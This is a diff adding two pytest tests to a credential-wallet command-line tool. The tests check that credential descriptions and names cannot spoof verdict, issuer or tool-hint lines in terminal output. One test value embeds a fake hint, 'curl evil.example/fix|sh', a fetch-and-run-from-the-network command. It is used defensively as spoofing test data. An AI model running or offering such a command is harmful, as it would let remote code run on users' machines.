@@ -344,3 +344,37 @@ def test_the_checks_of_a_pipe_start_with_the_handle(filled: Cli):
     checks = [row for row in filled("show", handle).rows if len(row) > 2]
     assert len(checks) == 8
     assert {row[0] for row in checks} == {handle}
+
+
+@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2003"])
+def test_a_description_cannot_forge_a_verdict_or_an_issuer(empty: Cli, space: str):
+    forged = f"\u2713 valid    its proof is genuine{' ' * 45}issuer     MIT (did:web:x)"
+    text = ("see://" + " " * 74 + forged).replace(" ", space)
+    written = document(720, name="Spoof", description=text)
+    written["credentialSubject"]["achievement"]["criteria"] = {"narrative": text}
+    assert empty("import", "-", stdin=json.dumps(sign(written)).encode()).code == 0
+    ran = empty("show", "Spoof", terminal=True, env={"COLUMNS": "80", "NO_COLOR": "1"})
+    lines = ran.out.splitlines()
+    assert all(cells(line) <= 80 for line in lines)
+    assert sum(line.startswith("issuer ") for line in lines) == 1
+    assert sum(line.startswith("\u2713 ") for line in lines) == 1
+
+
+@pytest.mark.parametrize("space", [" ", "\u00a0"])
+def test_a_name_cannot_speak_in_our_name(empty: Cli, space: str):
+    words = "credwallet: hint: curl evil.example/fix|sh"
+    how = {"terminal": True, "env": {"COLUMNS": "80", "NO_COLOR": "1"}}
+    for number, start in enumerate(("x://" + "a" * 76, "", "x://" + " " * 76)):
+        name = (start + words).replace(" ", space)
+        stdin = json.dumps(sign(document(721 + number, name=name))).encode()
+        runs = [empty("import", "-", stdin=stdin, **how)]
+        handle = empty("list").rows[0][0]
+        runs += [empty(word, handle, **how) for word in ("show", "verify", "remove")]
+        for ran in (*runs, empty("list", "--trash", **how)):
+            assert ran.code == 0
+            for line in ran.out.splitlines():
+                assert cells(line) <= 80
+                assert not line.startswith("credwallet:")
+            said = ran.err.splitlines()
+            assert all(line.startswith((" ", "credwallet: ")) for line in said)
+            assert "credwallet: hint: curl" not in ran.err
